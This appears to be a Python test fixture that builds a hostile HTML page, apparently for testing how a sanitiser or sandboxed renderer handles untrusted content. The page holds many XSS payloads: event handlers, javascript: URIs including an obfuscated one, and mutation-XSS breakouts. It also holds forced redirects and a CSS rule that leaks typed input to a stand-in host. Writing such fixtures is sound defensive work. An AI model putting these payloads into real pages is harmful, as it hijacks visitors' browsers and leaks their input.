"""A page that tries whatever a page can do to whoever looks at it. Every address in it is of a host that is nowhere."""

from __future__ import annotations

AWAY = "http://away.invalid"

WORDS = "Ferry stays in port. The harbour office closed the gate on Monday and the crossing did not sail at all."

PAGE = f"""<!DOCTYPE html>
<html manifest="{AWAY}/manifest" onload="parent.ran=1">
<head>
<title>Ferry stays in port</title>
<meta charset="utf-8">
<base href="{AWAY}/" target="_top">
<meta http-equiv="refresh" content="0; url={AWAY}/refreshed">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<meta http-equiv="x-dns-prefetch-control" content="on">
<link rel="stylesheet" href="{AWAY}/sheet.css">
<link rel="dns-prefetch" href="//dns.away.invalid"><link rel="preconnect" href="{AWAY}">
<link rel="preload" as="script" href="{AWAY}/preload.js"><link rel="prefetch" href="{AWAY}/prefetch">
<link rel="icon" href="{AWAY}/icon.png"><link rel="manifest" href="{AWAY}/app.json">
<style>
@import url("{AWAY}/import.css");
@font-face {{ font-family: Far; src: url("{AWAY}/font.woff2"); }}
body {{ font-family: Far, serif; background: url("{AWAY}/background.png"); }}
p::before {{ content: url("{AWAY}/before.png"); }}
input[value^="a"] {{ background: url("{AWAY}/typed"); }}
</style>
<script>parent.ran = 1; top.location = "{AWAY}/script";</script>
<script src="{AWAY}/script.js"></script>
<script type="module">import "{AWAY}/module.js";</script>
</head>
<body onload="top.ran=1" background="{AWAY}/body.png">
<h1>Ferry stays in port</h1>
<p onclick="top.ran=1" style="background: url({AWAY}/style.png)">{WORDS}</p>
<p>{WORDS.replace("Monday", "Tuesday")}</p>
<img src="{AWAY}/img.png" onerror="top.ran=1" srcset="{AWAY}/img2.png 2x" alt="the ramp">
<img src="x" onerror="top.ran=1">
<img id="own" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt="a dot">
<picture><source srcset="{AWAY}/source.webp"><img src="{AWAY}/inner.png"></picture>
<svg onload="top.ran=1" xmlns="http://www.w3.org/2000/svg"
xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">
<script>top.ran = 1</script><script href="{AWAY}/svg.js"></script>
<image xlink:href="{AWAY}/image.svg" width="9" height="9"/><use href="{AWAY}/use.svg#a"/>
<a xlink:href="javascript:top.ran=1"><text y="9">here</text></a>
<foreignObject><iframe src="javascript:top.ran=1"></iframe></foreignObject>
<animate attributeName="href" values="javascript:top.ran=1"/>
</svg>
<math><mtext><table><mglyph><style><img src=x onerror="top.ran=1"></style></mglyph></table></mtext></math>
<iframe src="{AWAY}/frame"></iframe><iframe srcdoc="<script>top.ran=1</script>"></iframe>
<object data="{AWAY}/object.swf"></object><embed src="{AWAY}/embed.swf">
<video src="{AWAY}/film.mp4" poster="{AWAY}/poster.png" autoplay></video><audio src="{AWAY}/sound.mp3" autoplay></audio>
<form action="{AWAY}/form" target="_top"><input name="a" value="a" autofocus onfocus="top.ran=1">
<button id="send" formaction="{AWAY}/button">Send</button></form>
<a id="out" href="{AWAY}/link" target="_top" ping="{AWAY}/ping">Read on</a>
<a id="inside" href="/articles">Within</a>
<a id="script" href="java&#10;script:top.ran=1">Run</a>
<noscript><img src="{AWAY}/noscript.png"></noscript>
<template><img src="{AWAY}/template.png" onerror="top.ran=1"></template>
<xmp></xmp><plaintext></plaintext>
<noembed><img title="</noembed><img src=x onerror=top.ran=1>"></noembed>
</body></html>
"""
